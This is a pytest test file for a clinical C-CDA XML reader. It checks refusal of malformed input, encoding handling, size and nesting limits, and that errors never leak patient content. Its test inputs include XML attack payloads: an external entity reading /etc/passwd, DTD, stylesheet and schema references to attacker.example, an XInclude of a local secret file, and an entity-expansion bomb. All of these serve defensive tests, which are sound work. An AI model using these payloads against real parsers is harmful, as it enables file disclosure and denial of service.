"""Bad C-CDA: refused or read with its fault named, with a place and without content; nothing is expanded or fetched."""

import io
import socket
import tracemalloc

import pytest

from careloom import connect, knowledge
from careloom.connect import ccda
from careloom.errors import InputError
from tests.connect.made import message
from tests.connect.made_ccda import CCD, HEAD, NEVER_IN_ERRORS, reading, reasons

BODY = CCD[CCD.index("<ClinicalDocument") :]


def refused(data: str | bytes) -> InputError:
    with pytest.raises(InputError) as found:
        reading(data)
    for secret in NEVER_IN_ERRORS:
        assert secret not in str(found.value)
    return found.value


@pytest.mark.parametrize(
    "dtd",
    [
        '<!DOCTYPE a [<!ENTITY x "y">]>',
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
        '<!-- hello --><?pi?>\n<!DOCTYPE a [<!ENTITY % b SYSTEM "file:///etc/passwd"> %b;]>',
        "<!doctype html>",
    ],
)
def test_a_dtd_is_refused_before_anything_is_parsed(dtd):
    assert "declares a DTD" in refused(f'<?xml version="1.0"?>{dtd}{BODY}').reason


def test_a_dtd_in_utf16_is_refused_too():
    bomb = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x "y">]>' + BODY
    assert "declares a DTD" in refused(bomb.encode("utf-16")).reason


def test_a_bomb_of_entities_costs_nothing():
    lines = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    bomb = f'<!DOCTYPE a [<!ENTITY l0 "ha">{lines}]>' + BODY.replace("Continuity of Care", "&l11;")
    tracemalloc.start()
    refused(bomb)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 5_000_000


def test_an_entity_without_a_dtd_is_not_well_formed():
    found = refused(BODY.replace("Continuity of Care", "&secret;"))
    assert "is not well-formed XML" in found.reason
    assert "secret" not in str(found)


def test_nothing_is_fetched_and_no_file_is_read(tmp_path, monkeypatch):
    def never(*args: object, **kwargs: object) -> None:
        raise AssertionError("something was fetched")

    secret = tmp_path / "secret.txt"
    secret.write_text("the secret of the file")
    monkeypatch.setattr(socket, "socket", never)
    include = (
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret.as_uri()}" parse="text"/>'
    )
    styled = '<?xml-stylesheet type="text/xsl" href="http://attacker.example/x.xsl"?>'
    location = 'xsi:schemaLocation="urn:hl7-org:v3 http://attacker.example/CDA.xsd"'
    document = styled + BODY.replace("<title>Assessment</title>", f"<title>Assessment</title>{include}")
    found = reading(document.replace("<ClinicalDocument", f"<ClinicalDocument {location}", 1))
    assert not any("secret" in one.text or "secret" in str(one.detail) for one in found.entries)


@pytest.mark.parametrize("cut", [200, 3_000, 9_000, len(CCD) - 20])
def test_a_document_that_is_cut_short_is_refused_with_its_place(cut):
    found = refused(CCD[:cut])
    assert "is not well-formed XML" in found.reason
    assert found.where.startswith("line ")


def test_an_element_that_is_not_closed_is_told():
    assert "closed" in refused(CCD.replace("</title>", "", 1)).reason


def test_what_it_declares_is_what_it_must_be():
    umlaut = BODY.replace("Marta", "Märta")
    assert "is not UTF-8" in refused(umlaut.encode("latin-1")).reason
    assert refused(umlaut.encode("latin-1")).where.startswith("line ")
    declared = '<?xml version="1.0" encoding="ISO-8859-1"?>' + umlaut
    assert reading(declared.encode("latin-1")).person.names[0].given[0] == "Märta"
    assert "declares a character set" in refused('<?xml version="1.0" encoding="EBCDIC-37"?>' + BODY).reason


@pytest.mark.parametrize("codec", ["utf-16", "utf-16-le", "utf-16-be", "utf-8-sig"])
def test_utf16_and_a_byte_order_mark_are_read(codec):
    declared = '<?xml version="1.0" encoding="UTF-16"?>' if "16" in codec else ""
    data = (declared + BODY).encode(codec)
    assert connect.detect("x.xml", data) == "ccda"
    found = reading(data)
    assert found.person.names[0].family == "Quill"
    assert found.rejected == ()


def test_a_utf8_file_that_says_it_is_utf16_is_read_with_that_fault():
    found = reading('<?xml version="1.0" encoding="utf-16"?>' + BODY)
    assert reasons(found) == ["declares UTF-16 but is not; it was read as UTF-8"]
    assert found.person.names[0].family == "Quill"


def test_a_nul_or_a_control_character_is_refused():
    assert "does not allow" in refused(BODY.replace("Mill", "Mi\x00ll")).reason
    assert "does not allow" in refused(BODY.replace("Mill", "Mi\x0bll")).reason


def test_a_document_without_a_namespace_is_read_with_that_fault():
    found = reading(BODY.replace(' xmlns="urn:hl7-org:v3"', ""))
    assert any("has no namespace" in reason for reason in reasons(found))
    assert len(found.entries) == len(reading(CCD).entries)


def test_a_prefix_that_is_used_and_not_declared_is_read_with_that_fault():
    found = reading(BODY.replace(' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"', ""))
    assert any("namespace prefix" in reason for reason in reasons(found))
    assert len(found.entries) == len(reading(CCD).entries)


@pytest.mark.parametrize(
    ("data", "why"),
    [
        ("<html xmlns='urn:hl7-org:v3'><body/></html>", "web page"),
        ("<PRPA_IN201305UV02 xmlns='urn:hl7-org:v3'/>", "HL7 v3 message"),
        ("<section><title>x</title></section>", "is a fragment of a C-CDA (section)"),
        (
            "<entry xmlns='urn:hl7-org:v3'><observation><value xsi:type='CD'/></observation></entry>",
            "fragment",
        ),
        ("<ClinicalDocument xmlns='urn:other'/>", "another namespace"),
        ("", "empty"),
    ],
)
def test_other_xml_is_refused_in_words_that_help(data, why):
    assert why in refused(data).reason


@pytest.mark.parametrize(
    ("head", "told"),
    [
        (CCD.encode(), "ccda"),
        (b"<section><title>x</title></section>", "ccda"),
        (
            b"<!-- a comment --><?xml-stylesheet href='x'?><n1:ClinicalDocument xmlns:n1='urn:hl7-org:v3'>",
            "ccda",
        ),
    ],
)
def test_a_cda_is_told_by_its_root(head, told):
    assert connect.detect("x.xml", head) == told


def test_other_xml_is_nobodys():
    with pytest.raises(InputError, match="ClinicalDocument as its root"):
        connect.detect("x.xml", b"<Patient xmlns='http://hl7.org/fhir'/>")


def test_a_document_that_is_too_large_is_refused_unread():
    with pytest.raises(InputError, match="is larger than 1 MB"):
        list(ccda.read(message(b"", "ccda"), io.BytesIO(b"<ClinicalDocument>" + b" " * (1 << 20)), max_mb=1))


def test_endless_nesting_is_refused():
    deep = "<component><section>" * 60 + "</section></component>" * 60
    document = f"{HEAD}<component><structuredBody>{deep}</structuredBody></component></ClinicalDocument>"
    assert "nested too deeply" in refused(document).reason
    acts = "<act><entryRelationship>" * 900 + "</entryRelationship></act>" * 900
    nested = f"{HEAD}<component><structuredBody><component><section><entry>{acts}</entry></section></component></structuredBody></component></ClinicalDocument>"
    assert "nested too deeply" in refused(nested).reason


def test_a_huge_file_inside_a_document_is_one_string_and_no_more():
    import base64

    data = base64.b64encode(b"x" * 12_000_000).decode()
    media = f"<entry><observationMedia classCode='OBS' moodCode='EVN'><value mediaType='image/png' representation='B64'>{data}</value></observationMedia></entry>"
    document = f"{HEAD}<component><structuredBody><component><section>{media}</section></component></structuredBody></component></ClinicalDocument>"
    (found,) = ccda.read(message(b"", "ccda"), io.BytesIO(document.encode()), max_mb=64)
    assert found.unknown == {"section without a code: observationMedia EVN": 1}


def test_the_whole_reader_names_places_and_never_content():
    broken = CCD.replace('value="20100501"', 'value="Quill"').replace('code="7984"', 'code="Marta Quill"')
    for one in reading(broken).rejected:
        for secret in NEVER_IN_ERRORS:
            assert secret not in f"{one.where} {one.reason}"


def test_the_reader_is_the_one_of_its_format():
    data = CCD.encode()
    found = list(
        connect.read(message(data, "ccda"), io.BytesIO(data), knowledge=knowledge.load(), max_json_mb=8)
    )
    assert any(one.detail.get("domain") == "housing" for one in found[0].entries)
